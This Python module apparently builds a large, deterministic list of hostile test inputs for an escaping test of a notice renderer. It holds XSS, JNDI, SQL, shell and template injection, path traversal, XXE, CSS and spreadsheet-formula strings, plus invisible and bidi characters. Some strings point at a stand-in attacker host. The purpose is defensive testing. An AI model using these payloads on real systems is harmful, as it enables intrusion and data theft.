"""Words that have broken other programs: at least five hundred of our own making.

Every one that could run says so by setting `__pwned`. Deterministic: the same list each time.
"""
RUN = "window.__pwned=1"


def _scripts():
    yield from (f"<{tag}>{RUN}</{tag}>" for tag in (
        "script", "SCRIPT", "ScRiPt", "script ", "script\t", "script/x", "scr\u0131pt",
        "script type=module", "script src=//paha.example/x.js", "svg/script", "xss"))
    yield from (f"{close}<script>{RUN}</script>" for close in (
        "</title>", "</h1>", "</p>", "</td>", "</textarea>", "</style>", "</script>", "</noscript>",
        "</template>", "</select>", "</svg>", "</math>", "</body></html>", "-->", "--!>", "]]>",
        "'>", '">', "`>", "'\"><", "*/", "?>", "%>", "}}", "\\\">", "&quot;>", "</main></body>"))
    yield from (f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"<script\n>{RUN}</script\n>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"%3Cscript%3E{RUN}%3C/script%3E",
        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"&#x3c;script&#x3e;{RUN}", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{RUN}", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"＜script＞{RUN}＜/script＞", f"‹script›{RUN}‹/script›", f"<script>{RUN}</script",
        f"<script x>{RUN}</script y>", f"<script>/*{RUN}*/</script>")


def _events():
    events = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart",
              "ontoggle", "onpointerenter", "onbeforeprint", "onhashchange", "onscrollend",
              "onpageshow", "onblur", "onwheel", "ontransitionend")
    tags = ("img src=x", "svg", "body", "iframe src=x", "details open", "video src=x", "a href=x",
            "input autofocus", "marquee", "object data=x", "embed src=x", "select autofocus",
            "textarea autofocus", "audio src=x", "style", "link rel=stylesheet href=x", "p",
        "table")
    for number, tag in enumerate(tags):
        for step in range(3):
            event = events[(number + step * 5) % len(events)]
            yield f"<{tag} {event}={RUN}>"
    for event in events:
        yield f'" {event}="{RUN}'
        yield f"' {event}='{RUN}"
        yield f"` {event}=`{RUN}`"
    yield from (f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\n=\n{RUN}>",
        f"<IMG SRC=x ONERROR={RUN}>", f"<svg/onload={RUN}//", f"<img src=x:x onerror={RUN} ",
        f"<img src='x' onerror='{RUN}'", f"<svg><animate onbegin={RUN} attributeName=x>",
        f"<svg><set onbegin={RUN}>", f"<x onclick={RUN}>", f"<img src=x onerror=&#119;{RUN[1:]}>",
        f"<input onfocus={RUN} autofocus>", f"<a onmouseover={RUN} style=position:fixed>")


def _addresses():
    code = RUN.replace("window.", "")
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
                   "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "&#106;avascript:",
                   "jav&#x09;ascript:", "jav&Tab;ascript:", "java&NewLine;script:", "javascript%3A",
                   "ｊａｖａｓｃｒｉｐｔ:", "javascript：", "view-source:javascript:", "feed:javascript:",
                   "vbscript:", "VbScRiPt:", "livescript:", "mocha:", "jar:javascript:",
                   "javascript://%0A", "javascript://mallila.example/%0a", "\tjavascript:"):
        yield scheme + code
    for data in ("data:text/html,", "DATA:text/html,", "data:text/html;charset=utf-8,",
                 "data:image/svg+xml,", "data:application/xhtml+xml,", "data:,", "data:;base64,",
                 "data:text/html;base64,PHNjcmlwdD4="):
        yield f"{data}<script>{RUN}</script>"
    for scheme in ("file:///etc/passwd", "blob:x", "filesystem:x", "about:blank", "chrome://x",
                   "intent://x#Intent;end", "//paha.example", "\\\\paha.example\\x",
        "https:paha.example",
                   "https:///paha.example", "https://mallila.example@paha.example",
                   "https://paha.example\\@mallila.example", "https://[::1]",
        "https://xn--ls8h.example",
                   "https://mаllila.example", "https://mallila.example/\" onclick=\"" + RUN,
                   "https://mallila.example/' onclick='" + RUN, "https://mallila.example/><script>",
                   "https://mallila.example/?a=1&copy=2&lt=3", "https://mallila.example/%00%0a%22",
                   "mailto:a@b.example?subject=x&body=\"><script>", "tel:+358\"><img src=x>",
                   "a@b.example\"><img src=x onerror=" + RUN, "\"<script>\"@b.example",
                   "a@b.example?bcc=kaikki@b.example", "0100\" onclick=\"" + RUN, "#", "#x", "?",
        "/",
                   "http://", "https://", "https://a b", "ftp://x", "urn:x", "::", "http:\\\\x"):
        yield scheme


def _breakouts():
    yield from ("<!--", "-->", "<!-->", "<!--->", "--!>", "<!-- x", "<!----><b>", "<![CDATA[",
        "]]>",
        "<![CDATA[x]]><b>", "]]]]><![CDATA[>", "<?xml version=\"1.0\"?>", "<?php phpinfo(); ?>",
        "<?", "?>", "<% x %>", "<%= 7*7 %>", "<!DOCTYPE html>", "<!doctype x [",
        "<!ENTITY x \"y\">", "</", "</>", "<>", "< b>", "<b", "<b>lihava</b>", "<i", "<1>", "<a",
        "<base href=//paha.example/>", "<meta http-equiv=refresh content=0;url=//paha.example>",
        "<meta charset=utf-7>", "<link rel=stylesheet href=//paha.example/x.css>",
        "<form action=//paha.example><input>", "<button formaction=javascript:x>",
        "<iframe srcdoc=\"<script>\">", "<frameset>", "<plaintext>", "<xmp>", "<listing>",
        "<noscript><p title=\"</noscript><img src=x>\">", "<template><b></template>",
        "<svg><style><!--</style><img src=x></svg>", "<math><mtext><table><mglyph><style>",
        "<table><td></table><b>", "<isindex>", "<keygen>", "<portal src=x>", "<dialog open>",
        "<slot>", "<img src=//paha.example/x.png>", "<video poster=//paha.example/x>",
        "<body background=//paha.example/x>", "<html lang=zz>", "<p id=sisalto>", "<a name=x>",
        "<img name=getElementById>", "<input name=attributes>", "</main><main>", "<br>", "<hr>",
        "\"", "'", "`", "\"'`", "\\\"", "\\'", "&quot;", "&#34;", "&apos;", "\"\"\"", "=\"", "='",
        "\" class=\"x", "' class='x", "\"/>", "'/>", "/>", ">", "<", "&", "&&", "&;", "&#", "&#;",
        "&#x", "&#x;", "&#0;", "&#x110000;", "&#xD800;", "&#128;", "&amp", "&amp;amp;", "&lt",
        "&lt;b&gt;", "&notit;", "&notin;", "&copy", "&CounterClockwiseContourIntegral;", "&nbsp;",
        "&zwj;", "&x;", "%22%3E", "\\u0022", "\\x22", "=", "a=b", "a=\"b\"")


def _templates():
    for inside in (
        "x", "title", "7*7", "constructor.constructor('" + RUN + "')()", "#each", ">x", "^x", "&x",
        "!x", "/x", "=<% %>=", ".", "#x}}{{/x", "self", "config",
    ):
        yield "{{" + inside + "}}"
    yield from (
        "{{{x}}}", "{{{title}}}", "{{{{x}}}}", "{{", "}}", "{{{", "}}}", "{{!", "{{#x}}", "{{/x}}",
        "{{> partial}}", "{{& raw}}", "{% x %}", "{%", "%}", "{# x #}", "${7*7}", "#{7*7}",
        "${jndi:ldap://paha.example/x}", "<#assign x>", "*{7*7}", "@{7*7}", "~{x}", "[[7*7]]",
        "[(7*7)]", "$!x", "#set($x=1)", "{{x | raw}}", "{{{x}}", "{{x}}}", "{ {x} }", "\\{{x}}",
        "{{x\\}}", "%(x)s", "%s%n%x", "%@", "{0}", "{}", "\\(x)", "$(id)", "`id`",
    )


def _unicode():
    yield from ("שלום עולם", "مرحبا بالعالم", "بِسْمِ اللَّهِ", "עברית <b> english",
        "فارسی و English",
        "日本語テキスト", "한국어 텍스트", "ไทยไม่มีช่องว่างระหว่างคำเลยยาวมากมาก", "हिन्दी क्षत्रिय",
        "Ελληνικά", "Кириллица", "አማርኛ", "ᠮᠣᠩᠭᠣᠯ", "𐎀𐎁𐎂", "𒀀𒀁", "ᚠᚢᚦ", "💩", "👨‍👩‍👧‍👦",
        "🏳️‍🌈", "👩🏽‍💻", "🇫🇮🇸🇪", "1️⃣#️⃣", "❤️", "☃️", "👁️‍🗨️", "🧑‍🤝‍🧑", "🤦🏿‍♂️", "ﷺ", "﷽", "ﬁ ﬂ ﬃ",
        "½ ⅞ ²", "Ⅷ ⓐ ㊙", "İıſß", "Ǆ ǅ ǆ", "ΐ ΰ", "Å Å Å", "e\u0301 é", "ö o\u0308", "ﾊﾝｶｸ",
        "ＡＢＣ１２３", "＜ｂ＞", "𝒜𝓑𝕮", "ᵃᵇᶜ", "раураl.example", "аdmin", "Ａdmin", "ɢoogle.example",
        "Ⲟ Ο O О", "‐‑‒–—―", "‘’‚“”„‹›«»", "…‥․", "\u00a0ei\u00a0katkea\u00a0", "a\u2003b\u2009c",
        "a\u3000b", "\u00b4\u02b9\u02bb", "\u2044 \u2215", "√∞≠≤", "→⇒↔", "█▓▒░", "♠♥♦♣", "\ue000",
        "\U000f0000", "�", "\u0345\u0301", "\u0300alku", "a\u20dd\u20e0", "Z\u0335\u0322a\u0321l",
        "sana" + "\u0301" * 60,
        "".join("zalgo"[i % 5] + "\u0300\u0316\u0334\u0489" * 6 for i in range(10)),
        "\u0e49" * 40, "ก" + "็" * 40, "a\u0bbe", "\u1ab0" * 12 + "x", "🧔" * 40, "\u0600", "\u06dd",
        "\u070f", "\u08e2", "\U000110bd", "\u180b", "\ufe0f", "\u3164x", "x\uffa0", "\u115fx",
        "\u2800", "\u00ad pehmeä", "ta\u00advu\u00adviiva")


def _long():
    yield from ("pitkä" * 200, "W" * 500, "-" * 400, "_" * 300, "." * 300, "a/" * 200, "ä" * 400,
        "(" * 300, ")" * 300, "&" * 200, "<" * 200, "\"" * 200, "'" * 200, "<b>" * 100,
        "https://mallila.example/" + "polku/" * 60, "x" * 200 + "@mallila.example",
        "Kolmivaihekilowattituntimittari" * 8, "sana " * 300, "9" * 300, "%41" * 100, "漢" * 300,
        "lumivalkoinen-" * 30, "a\u00a0" * 150, "👨‍👩‍👧" * 60, "مرحبا" * 60)


def _words():
    yield from ("null", "NULL", "nil", "None", "none", "undefined", "void", "true", "false", "TRUE",
        "yes", "no", "ei", "kyllä", "unknown", "N/A", "NaN", "nan", "Infinity", "-Infinity", "inf",
        "1e999", "-1e999", "1e-999", "0", "-0", "00", "0x1F", "0b1", "0o7", "1_000", "1,000",
        "1.10", "01:30", "٣٤٥", "１２３", "9007199254740993", "99999999999999999999", "-1", "+1",
        "2024-02-30", "32.13.2024", "0000-00-00", "1.1.0001", "31.12.9999", "2026-W47", "P0D",
        "-P1Y", "P99999Y", "999999 vuotta", "~", "-", "--", "---", "...", "- x", "? x", ": x",
        "a: b", "#x", "x #y", "*x", "!x", "!!binary x", "|", "@x", "[", "]", "{", "}", ",",
        "[]", "{}", "[object Object]", "function(){}", "__proto__", "constructor", "toString",
        "hasOwnProperty", "prototype", "length", "arguments", "eval", "this", "CON", "NUL", "aux",
        "COM1", ".htaccess", "index.html", "<default>", "admin", "root", "test", "deleted")
    yield from ("' OR '1'='1", "'; DROP TABLE seloste;--", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"",
        "') UNION SELECT NULL--", "admin'--", "1' AND SLEEP(9)#", "%' ESCAPE '\\", "\\'; --",
        "{\"$gt\": \"\"}", "*)(uid=*))(|(uid=*", "' or 1=1 or ''='", "x' AND 1=(SELECT 1)--")
    yield from ("; ls -la", "| cat /etc/passwd", "&& reboot", "$(touch x)", "`touch x`",
        "> /dev/null",
        "< /dev/random", "a;b", "$HOME", "${IFS}", "$'\\n'", "!!", "*", "~root", "-rf /", "--help",
        "\\n", "\\r\\n", "\\0", "\\", "\\\\", "C:\\x", "%PATH%", "%0a%0d", "\\e[31m", "^[[31m")
    yield from ("../../../etc/passwd", "..\\..\\..\\windows", "..%2f..%2f", "....//....//",
        "/etc/passwd",
        "/dev/null", "%2e%2e/", "..;/", "file.html%00.txt", "./", "..", ".", "//", "a/../b",
        "\\\\palvelin\\jako", "..%c0%af")
    yield from ("<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>", "&y;", "%y;",
        "<!ENTITY % y SYSTEM \"https://paha.example/y.dtd\">", "<xi:include href=\"/etc/passwd\"/>",
        "<?xml-stylesheet href=\"//paha.example/x.xsl\"?>", "xmlns:x=\"x\"", "<x:y/>", "xml:lang")
    yield from ("</style><b>", "} body { display: none } .x {",
        "; background: url(//paha.example/x)",
        "expression(" + RUN + ")", "@import '//paha.example/x.css';", "\\75rl(x)", "/* x */", "*/",
        "-moz-binding: url(x)", "behavior: url(x)", "content: attr(x)", "color: red !important",
        "<div style=\"position:fixed;inset:0\">", "style=\"display:none\"",
        ".seloste{display:none}")
    yield from ("=cmd|' /C calc'!A0", "=1+1", "+SUM(1)", "@SUM(1)", "-2+3", "=HYPERLINK(\"//x\")",
        "::error file=a::b", "##vso[x]", "[linkki](javascript:x)", "![x](//paha.example/x.png)",
        "# otsikko", "* kohta", "1. kohta", "> lainaus", "| a | b |", "```", "**x**",
        "<x@y.example>",
        "[[linkki]]", "{{Malline}}", "\\begin{x}", "\\input{/etc/passwd}", "$x^2$",
        ".. include:: x",
        "rivi\nrivi", "kappale\n\nkappale", "a\tb", "\n", "  alku", "loppu  ", "a  b", " ")
    yield from (r"\ud83d", r"\udc00", r"\ud83d\ude00", r"\uD800", r"\U0001F600", r"\u{1F600}",
        r"\x00",
        r"\u0000", "%00", "%u0000", "&#0;x", "\\u202e", "U+202E", "=?utf-8?B?eA==?=",
        "%F0%9F%98%80",
        "Ã¤Ã¶", "â€œ", "Ã¥", "?????", "\\xc0\\x80")


def _distinct(groups):
    return list(dict.fromkeys(text for group in groups for text in group()))


#: Words that a notice may hold, and that must come out as they went in.
ALLOWED = _distinct(
    [_scripts, _events, _addresses, _breakouts, _templates, _unicode, _long, _words]
)

REFUSED_RANGES = [
    (0x00, 0x08), (0x0B, 0x0C), (0x0E, 0x1F), (0x7F, 0x9F), (0x61C, 0x61C), (0x200B, 0x200B),
    (0x200E, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F), (0xFEFF, 0xFEFF), (0xFFF9, 0xFFFB),
    (0xE0000, 0xE007F), (0xFFFE, 0xFFFF),
]


def is_refused(character):
    """Whether a notice may not hold it: controls, marks of direction, invisible characters."""
    return any(first <= ord(character) <= last for first, last in REFUSED_RANGES)


def kept(text):
    """The text without the characters that are refused, as pages show it."""
    return "".join(character for character in text if not is_refused(character))


#: Words with characters that a notice may not hold; they are dropped where a page is made at all.
REFUSED = [
    *(
        f"a{chr(code)}b"
        for first, last in REFUSED_RANGES
        for code in (first, (first + last) // 2, last)
    ),
    f"\u202e<script>{RUN}</script>", "\u2066<b>\u2069",
        "<scr\u0000ipt>" + RUN, "<scr\u200bipt>" + RUN,
    "java\u0001script:" + RUN, "\u0001javascript:" + RUN, "java\u200bscript:" + RUN,
    "\u001b[31mpunainen",
    "\u001b]0;x\u0007", "\u202enimi\u202c", "\u2067مرحبا\u2069", "\ufeffalku", "x\u2028y\u2029z",
        "<\u0000b>",
    "&\u0000lt;", "\u009b31m", "🏴\U000e0067\U000e0062\U000e007f", "\u200e\u200f",
]

assert len(ALLOWED) >= 500, len(ALLOWED)
